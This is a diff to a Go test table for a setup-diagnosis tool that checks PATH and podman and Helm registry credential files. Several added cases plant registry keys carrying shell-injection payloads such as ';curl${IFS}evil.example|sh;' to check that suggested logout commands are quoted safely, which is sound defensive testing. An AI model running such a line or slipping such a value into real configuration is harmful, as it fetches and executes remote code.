@@ -24,7 +24,7 @@ var ailments = []struct {
 	{
 		"the program is not on PATH",
 		func(p *patient) { p.path("bin") },
-		"path", doctor.Failed, "is not on PATH", `export PATH="/`, "duplicates desktop",
+		"path", doctor.Failed, "is not on PATH", `export PATH=/`, "duplicates desktop",
 	}, {
 		"programs started without a shell have a shorter PATH",
 		func(p *patient) {
@@ -132,7 +132,37 @@ var ailments = []struct {
 		func(p *patient) {
 			p.write(".config/containers/auth.json", `{"auths": {"REGISTRY/team": `+auth+`}}`, 0o600)
 		},
-		"podman", doctor.Warning, "do not ask this program", `run "podman logout --authfile /`, "",
+		"podman", doctor.Warning, "and not this program", `run "podman logout --authfile /`, "",
+	}, {
+		"a key of podman's means something to a shell",
+		func(p *patient) {
+			p.write(".config/containers/auth.json", `{"auths": {"REGISTRY/;curl${IFS}evil.example|sh;": `+auth+`}}`, 0o600)
+		},
+		"podman", doctor.Warning, "and not this program", `/;curl${IFS}evil.example|sh;'"`, "",
+	}, {
+		"a key of podman's would end its quotes",
+		func(p *patient) {
+			p.write(".config/containers/auth.json", `{"auths": {"REGISTRY/';curl evil.example|sh;'": `+auth+`}}`, 0o600)
+		},
+		"podman", doctor.Warning, "and not this program", `take the entry "127.0.0.1:`, "",
+	}, {
+		"the path of podman's file has blanks in it",
+		func(p *patient) {
+			p.setenv("REGISTRY_AUTH_FILE", p.write("my files/auth.json", `{"auths": {"REGISTRY": `+auth+`}}`, 0o600))
+		},
+		"podman", doctor.Warning, "and not this program", `/my files/auth.json' 127.0.0.1:`, "",
+	}, {
+		"Helm has a secret of its own",
+		func(p *patient) {
+			p.write(".config/helm/registry/config.json", `{"auths": {"REGISTRY": `+auth+`}}`, 0o600)
+		},
+		"helm", doctor.Warning, "and does not ask this program", `run "helm registry logout 127.0.0.1:`, "",
+	}, {
+		"Helm has a secret of its own, elsewhere",
+		func(p *patient) {
+			p.setenv("HELM_REGISTRY_CONFIG", p.write("helm.json", `{"auths": {"REGISTRY": `+auth+`}}`, 0o600))
+		},
+		"helm", doctor.Warning, "helm.json", `run "helm registry logout 127.0.0.1:`, "",
 	}, {
 		"podman asks another helper",
 		func(p *patient) {
